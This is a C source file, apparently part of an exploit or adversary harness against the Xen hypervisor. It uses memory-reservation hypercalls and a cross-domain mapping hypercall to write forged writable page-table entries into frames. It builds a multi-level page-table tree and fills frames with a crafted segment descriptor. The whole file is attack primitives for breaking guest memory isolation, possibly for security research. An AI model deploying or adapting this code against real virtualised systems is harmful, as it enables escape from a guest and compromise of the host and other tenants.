/* SPDX-License-Identifier: GPL-2.0-only */
/* Frames that are mapped nowhere, and what the adversary writes into them. */
#include "adversary.h"

uint64_t frames[4096], tree[TABLES], data[MANY];

struct xen_memory_reservation extents(uint64_t *list, uint64_t n, unsigned int order)
{
	return (struct xen_memory_reservation){.extent_start = (uint64_t)list,
					       .nr_extents = n,
					       .extent_order = order,
					       .domid = DOMID_SELF};
}

long memory(unsigned int cmd, struct xen_memory_reservation *r)
{
	return CALL(HYPERCALL_memory_op, cmd, r);
}

void take(uint64_t *list, uint64_t n)
{
	struct xen_memory_reservation r = extents(list, n, 0);

	EQUAL(memory(XENMEM_increase_reservation, &r), n);
}

void give(uint64_t *list, uint64_t n)
{
	struct xen_memory_reservation r = extents(list, n, 0);

	EQUAL(memory(XENMEM_decrease_reservation, &r), n);
}

static uint8_t place[PAGE] __attribute__((aligned(4096)));
static uint64_t *const window = (uint64_t *)place; /* to the frame that is being filled */

static uint64_t open_window(uint16_t domain, uint64_t frame)
{
	uint64_t own = mfn_of(place);

	EQUAL(CALL(HYPERCALL_update_va_mapping_otherdomain, place, PTE(frame, WRITABLE),
		   UVMF_INVLPG, domain),
	      0);
	return own;
}

static void close_window(uint64_t own)
{
	EQUAL(remap(place, PTE(own, WRITABLE)), 0);
}

void fill(uint16_t domain, uint64_t frame, const uint64_t *list, unsigned int n, unsigned int used)
{
	uint64_t own = open_window(domain, frame);

	for (unsigned int i = 0; i < 512; i++)
		window[i] = i < used ? PTE(list[i % n], WRITABLE) : 0;
	close_window(own);
}

void fill_descriptors(uint16_t domain, uint64_t frame)
{
	uint64_t own = open_window(domain, frame);

	for (unsigned int i = 0; i < 512; i++)
		window[i] = 0x00affb000000ffff;
	close_window(own);
}

void build_tree(uint16_t domain)
{
	for (unsigned int i = 0; i < MANY; i++)
		fill(domain, tree[3 + i], data, MANY, 512);
	fill(domain, tree[2], tree + 3, MANY, 512);
	fill(domain, tree[1], tree + 2, 1, 512);
	fill(domain, tree[0], tree + 1, 1, 256);
}
